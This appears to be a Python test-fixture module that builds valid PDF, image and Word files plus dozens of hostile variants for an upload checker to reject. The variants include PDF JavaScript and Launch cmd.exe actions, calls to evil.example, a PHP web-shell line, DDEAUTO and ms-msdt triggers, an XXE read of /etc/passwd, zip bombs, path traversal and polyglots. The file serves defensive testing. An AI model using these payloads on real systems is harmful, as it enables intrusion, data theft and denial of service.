"""Files made in code: whole ones of each type, and hostile ones of every sort that the checks must refuse."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from familyhub.demo.assessments import pdf as whole_pdf

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/>%s</Types>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ZIP_LIKE = b"PK\x03\x04" + b"\0" * 26


def good_pdf(more: bytes = b"") -> bytes:
    """One page; `more` is an object put among the others."""
    made = whole_pdf(("An invented page",))
    if not more:
        return made
    return made.replace(b"xref\n", b"9 0 obj\n" + more + b"\nendobj\nxref\n", 1)


def relation(kind: str, target: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r1" Type="{KIND}{kind}" Target="{target}"{mode}/>'


def good_docx(
    *, body: str = "", types: str = "", relations: str = "", parts: dict[str, bytes] | None = None, head: str = ""
) -> bytes:
    """A document of one paragraph, with whatever is to be put into it."""
    words = "<w:p><w:r><w:t>Invented</w:t></w:r></w:p>"
    text = f'{head}<w:document xmlns:w="{WORD}"><w:body>{words}{body}</w:body></w:document>'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", TYPES % types)
        packed.writestr("_rels/.rels", RELATIONS % relation("officeDocument", "word/document.xml", outside=False))
        packed.writestr("word/document.xml", text)
        packed.writestr("word/_rels/document.xml.rels", RELATIONS % relations)
        for name, said in (parts or {}).items():
            packed.writestr(name, said)
    return made.getvalue()


def good_jpeg(size: tuple[int, int] = (40, 30), with_place: bool = True, turned: bool = False) -> bytes:
    """A photograph that says where and by whom it was taken."""
    picture = Image.new("RGB", size, (200, 30, 30))
    notes = Image.Exif()
    if with_place:
        notes[0x010F], notes[0x0110], notes[0x013B] = "Invented Cameras", "Canary One", "Author Canary"
        notes.get_ifd(0x8825).update({1: "N", 2: (53.0, 19.0, 1.0), 3: "W", 4: (0.0, 56.0, 0.0)})
    if turned:
        notes[0x0112] = 6
    made = io.BytesIO()
    picture.save(made, "JPEG", exif=notes, comment=b"Comment Canary")
    return made.getvalue()


def good_png(size: tuple[int, int] = (40, 30)) -> bytes:
    """A screenshot with words hidden in it."""
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", "Author Canary")
    made = io.BytesIO()
    Image.new("RGBA", size, (10, 20, 30, 128)).save(made, "PNG", pnginfo=notes)
    return made.getvalue()


def png_piece(name: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))


def huge_png(side: int = 10_000) -> bytes:
    """100 million pixels in a few hundred bytes."""
    head = struct.pack("!IIBBBBB", side, side, 8, 2, 0, 0, 0)
    pieces = png_piece(b"IHDR", head) + png_piece(b"IDAT", zlib.compress(b"\0" * 1000)) + png_piece(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + pieces


def packed_objects(said: bytes) -> bytes:
    """An object stream, in which objects are not to be read without unpacking."""
    inside = zlib.compress(said)
    return b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(inside),
        inside,
    )


def small_zip(*names: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        for name in names or ("a.txt",):
            packed.writestr(name, b"invented")
    return made.getvalue()


def bomb() -> bytes:
    """A document whose one part unpacks to 200 MB."""
    return good_docx(parts={"word/media/a.xml": b"<a>" + b" " * 200_000_000 + b"</a>"})


def overlapping() -> bytes:
    """Many names in the directory that share one part's bytes."""
    made = bytearray(good_docx())
    end = made.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", made[end + 10 : end + 20])
    directory = bytes(made[start : start + size])
    first = directory[: 46 + struct.unpack("<H", directory[28:30])[0]]
    copy = first.replace(b"[Content_Types].xml", b"[Content_Types]2xml"[:19])
    made[start + size : start + size] = copy
    end += len(copy)
    made[end + 8 : end + 16] = struct.pack("<HHI", count + 1, count + 1, size + len(copy))
    return bytes(made)


def _pdfs() -> Iterator[tuple[str, str, bytes]]:
    good, actions = (
        good_pdf(),
        {
            "javascript": b"<< /S /JavaScript /JS (app.alert(1)) >>",
            "javascript in hidden letters": b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
            "launch": b"<< /S /Launch /F (cmd.exe) >>",
            "embedded file": b"<< /Type /EmbeddedFile >>",
            "file attachment": b"<< /Subtype /FileAttachment >>",
            "rich media": b"<< /Subtype /RichMedia >>",
            "submit form": b"<< /S /SubmitForm /F (http://evil.example) >>",
            "form with program": b"<< /XFA [(a) 1 0 R] >>",
            "another document": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>",
            "enclosed document": b"<< /S /GoToE >>",
            "additional action": b"<< /AA << /O 5 0 R >> >>",
            "script by its short name": b"<< /S 6 0 R /JS 7 0 R >>",
            "locked": b"<< /Encrypt 8 0 R >>",
            "in a packed object": packed_objects(b"1 0 << /S /JavaScript /JS (a) >>"),
            "short name in a packed object": packed_objects(b"1 0 << /S 6 0 R /JS 7 0 R >>"),
            "oddly packed object": packed_objects(b"1 0 <<>>").replace(
                b"/FlateDecode", b"[/ASCII85Decode /FlateDecode]"
            ),
            "packed object with a false head": packed_objects(b"1 0 <<>>").replace(b" /Length", b" % endobj\n /Length"),
            "packed bomb": packed_objects(b" " * 40_000_000),
            "hidden behind a false stream": b"% stream\n<< /S /JavaScript >> endstream",
        },
    )
    for name, said in actions.items():
        yield f"pdf: {name}", "a.pdf", good_pdf(said)
    yield "pdf: zip after it", "a.pdf", good + small_zip()
    yield "pdf: zip inside it", "a.pdf", good_pdf(b"<< /Length 9 >>\nstream\n" + small_zip() + b"\nendstream")
    yield "pdf: page after it", "a.pdf", good + b"<html><script>alert(1)</script></html>"
    yield "pdf: page in it", "a.pdf", good_pdf(b"(<script>alert(1)</script>)")
    yield "pdf: second one after it", "a.pdf", good + good
    yield "pdf: something before it", "a.pdf", b"GIF89a" + good
    yield "pdf: cut", "a.pdf", good[:-40]
    yield "pdf: only its first words", "a.pdf", b"%PDF-1.7\n"
    yield "pdf: named as Word", "a.docx", good
    yield "pdf: named as a program", "a.pdf.exe", good
    yield "pdf: named with turned writing", "a\u202efdp.exe", good


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    jpeg, png = good_jpeg(), good_png()
    yield "jpeg: zip after it", "a.jpg", jpeg + small_zip()
    yield "jpeg: Java archive after it", "a.jpg", jpeg + small_zip("META-INF/MANIFEST.MF", "A.class")
    yield "jpeg: page after it", "a.jpg", jpeg + b"<html><script>alert(1)</script></html>"
    yield "jpeg: PDF after it", "a.jpg", jpeg + good_pdf()
    yield "jpeg: program after it", "a.jpg", jpeg + b"MZ" + b"\x90" * 90
    yield "jpeg: script in a note", "a.jpg", jpeg.replace(b"Comment Canary", b"<script>a();//")
    yield "jpeg: cut", "a.jpg", jpeg[: len(jpeg) // 2]
    yield "jpeg: only its first bytes", "a.jpg", b"\xff\xd8\xff\xe0"
    yield "jpeg: false length", "a.jpg", b"\xff\xd8\xff\xe0\x00\x01" + jpeg[20:]
    yield "jpeg: named as PDF", "a.pdf", jpeg
    yield "png: zip after it", "a.png", png + small_zip()
    yield (
        "png: page in a note",
        "a.png",
        png.replace(b"IDAT", b"IDAT", 1)[:-12] + png_piece(b"tEXt", b"a\0<?php system($_GET[0]);") + png[-12:],
    )
    yield "png: PDF in a piece", "a.png", png[:-12] + png_piece(b"prIv", good_pdf()) + png[-12:]
    yield "png: too many pixels", "a.png", huge_png()
    yield "png: false checksum", "a.png", png[:30] + b"\0\0\0\0" + png[34:]
    yield "png: cut", "a.png", png[:-12]
    yield "png: named as JPEG", "a.jpg", png
    yield "gif with Java archive", "a.png", b"GIF89a" + b"\0" * 20 + small_zip()
    yield "svg with script", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>a()</script></svg>"


def _words() -> Iterator[tuple[str, str, bytes]]:
    good = good_docx()
    macros = (
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    )
    yield "docx: macros", "a.docx", good_docx(parts={"word/vbaProject.bin": b"\xd0\xcf"})
    yield "docx: macro type", "a.docx", good_docx(types=macros)
    yield "docx: named .docm", "a.docm", good
    yield "docx: another program's object", "a.docx", good_docx(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"})
    yield "docx: ActiveX", "a.docx", good_docx(parts={"word/activeX/activeX1.xml": b"<a/>"})
    yield "docx: program inside", "a.docx", good_docx(parts={"word/media/a.exe": b"MZ"})
    yield "docx: zip as a picture", "a.docx", good_docx(parts={"word/media/a.png": small_zip()})
    yield (
        "docx: template from elsewhere",
        "a.docx",
        good_docx(relations=relation("attachedTemplate", "http://evil.example/a.dotm")),
    )
    yield "docx: picture from elsewhere", "a.docx", good_docx(relations=relation("image", "http://evil.example/a.png"))
    yield "docx: object from elsewhere", "a.docx", good_docx(relations=relation("oleObject", "file://evil/a"))
    yield "docx: chunk of a page", "a.docx", good_docx(relations=relation("aFChunk", "a.xml", outside=False))
    yield "docx: link that runs", "a.docx", good_docx(relations=relation("hyperlink", "ms-msdt:/id"))
    yield (
        "docx: outside in hidden letters",
        "a.docx",
        good_docx(relations=relation("image", "http://evil.example/a").replace("External", "Extern&#97;l")),
    )
    yield (
        "docx: field that runs",
        "a.docx",
        good_docx(body="<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"),
    )
    yield "docx: definitions", "a.docx", good_docx(head='<!DOCTYPE a [<!ENTITY b "bbbb">]>')
    yield (
        "docx: file fetched by a definition",
        "a.docx",
        good_docx(head='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    )
    yield "docx: bomb", "a.docx", bomb()
    yield "docx: parts that share bytes", "a.docx", overlapping()
    good_end = good.rfind(b"PK\x01\x02", 0, good.find(b"PK\x01\x02") + 4)
    yield "docx: something between", "a.docx", good[:good_end] + b"hidden" * 40 + good[good_end:]
    yield "docx: too many parts", "a.docx", good_docx(parts={f"word/a{n}.xml": b"<a/>" for n in range(600)})
    yield "docx: way out of the folder", "a.docx", good_docx(parts={"../../etc/a.xml": b"<a/>"})
    yield "docx: something before it", "a.docx", b"MZ\x90\x00" + good
    yield "docx: something after it", "a.docx", good + b"<html></html>"
    yield "docx: another zip after it", "a.docx", good + small_zip()
    yield "docx: cut", "a.docx", good[:-30]
    yield "docx: a zip of another sort", "a.docx", small_zip()
    yield "zip named .pdf", "a.pdf", small_zip()
    yield "docx: named .zip", "a.zip", good
    yield "Word of long ago", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "phone's own picture", "a.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 60
    yield "page", "a.pdf", b"<html><script>alert(1)</script></html>"
    yield "program", "a.pdf", b"MZ" + b"\0" * 200
    yield "test pattern by itself", "eicar.com", EICAR
    yield "test pattern named .pdf", "a.pdf", EICAR
    yield "nothing", "a.pdf", b""
    yield "no name's end", "a", good_pdf()


def hostile() -> list[tuple[str, str, bytes]]:
    """(what it is, its name, its bytes) of every one."""
    return [*_pdfs(), *_pictures(), *_words()]
